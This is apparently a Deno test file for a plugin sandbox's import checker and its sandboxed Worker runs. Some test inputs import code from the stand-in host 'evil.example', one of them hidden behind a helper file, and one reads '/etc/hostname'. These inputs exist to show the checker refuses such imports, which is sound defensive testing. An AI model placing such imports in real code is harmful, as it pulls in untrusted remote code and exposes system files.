/** The plugin sandbox: the import-graph check, and runs inside the sandboxed Worker. */
import { assert, assertEquals, assertRejects } from "@std/assert";
import { simulate } from "../actors/simulation.ts";
import { checkPluginImports, findImports, pluginImportRules } from "../scenarios/plugin_imports.ts";
import { loadRouterPlugin } from "../scenarios/router_plugin.ts";
import { runPluginScenario } from "../scenarios/run.ts";
import { parseScenario } from "../scenarios/scenario.ts";
import { UsageError } from "../scenarios/usage_error.ts";

const ROOT = new URL("..", import.meta.url).pathname;

Deno.test("findImports sees every import form and nothing inside comments or strings", async (t) => {
  const rows: [name: string, source: string, specifiers: (string | undefined)[]][] = [
    ["named", `import { a } from "./a.ts";`, ["./a.ts"]],
    ["default and type", `import b from './b.ts';\nimport type { C } from "./c.ts";`, ["./b.ts", "./c.ts"]],
    ["side effect", `import "./side.ts";`, ["./side.ts"]],
    ["re-export", `export * from "./all.ts";\nexport { x as y } from "./x.ts";`, ["./all.ts", "./x.ts"]],
    ["multi-line", `import {\n  a,\n  b,\n} from\n  "./ab.ts";`, ["./ab.ts"]],
    ["with attributes", `import t from "/etc/hostname" with { type: "text" };`, ["/etc/hostname"]],
    ["literal dynamic", `const m = await import("./dyn.ts");`, ["./dyn.ts"]],
    ["template dynamic", "const m = await import(`./tpl.ts`);", ["./tpl.ts"]],
    ["computed dynamic", `const m = await import(path);`, [undefined]],
    ["concatenated dynamic", `const m = await import("./a" + suffix);`, [undefined]],
    ["interpolated template", "await import(`./${name}.ts`);", [undefined]],
    ["in a line comment", `// import x from "https://evil.example/x.ts";`, []],
    ["in a block comment", `/* import("https://evil.example/x.ts") */`, []],
    ["in a string", `const s = "import x from 'https://evil.example/x.ts'";`, []],
    ["in a template", 'const s = `from "https://evil.example"`;', []],
    ["a property named import", `obj.import("x"); const from = 1;`, []],
    ["import.meta", `const u = import.meta.url;`, []],
  ];
  for (const [name, source, expected] of rows) {
    await t.step(
      name,
      () => assertEquals(findImports(source).map((f) => f.specifier).sort(), expected.sort()),
    );
  }
});

Deno.test("the import check allows the example plugin, the import map, locked npm packages and actors/", async () => {
  for (const file of ["scenarios/plugins/cache_with_slack.ts", "tests/fixtures/hostile/uses_actors.ts"]) {
    const path = `${ROOT}${file}`;
    await checkPluginImports(path, await pluginImportRules(path));
  }
  const dir = await Deno.makeTempDir();
  const path = `${dir}/mapped.ts`;
  await Deno.writeTextFile(
    path,
    `import mnemonist from "mnemonist";\nimport seedrandom from "npm:seedrandom@3.0.5";\nexport default {};`,
  );
  await checkPluginImports(path, await pluginImportRules(path));
  await Deno.remove(dir, { recursive: true });
});

Deno.test("the import check refuses what a plugin reaches through a file it imports", async () => {
  const dir = await Deno.makeTempDir();
  await Deno.writeTextFile(`${dir}/plugin.ts`, `import "./helper.ts";\nexport default {};`);
  await Deno.writeTextFile(`${dir}/helper.ts`, `export * from "https://evil.example/x.ts";`);
  const error = await assertRejects(
    async () => checkPluginImports(`${dir}/plugin.ts`, await pluginImportRules(`${dir}/plugin.ts`)),
    UsageError,
  );
  assert(error.message.includes("helper.ts"), error.message);
  assert(error.message.includes('"https://evil.example/x.ts" refused'), error.message);
  await Deno.remove(dir, { recursive: true });
});

Deno.test("a plugin copy of prefix_aware in its sandbox gives the built-in's numbers exactly", async () => {
  const config = parseScenario({
    policy: { name: "prefix_aware" },
    workload: { requests: 3000, prefix: { zipf: 2, sharedFrac: 0.9 } },
  });
  const plugin = await loadRouterPlugin("scenarios/plugins/prefix_aware_copy.ts", { baseDir: ROOT });
  assertEquals(plugin.name, "prefix_aware_copy");
  const sandboxed = await runPluginScenario(config, plugin, 5000);
  const builtIn = simulate(config);
  const { policy: _p, wallMs: _w, scenario: _s, ...sandboxMetrics } = sandboxed;
  const { policy: _q, ...builtInMetrics } = builtIn;
  assertEquals(sandboxMetrics, builtInMetrics);
  assertEquals(sandboxed.policy, "prefix_aware_copy");
});
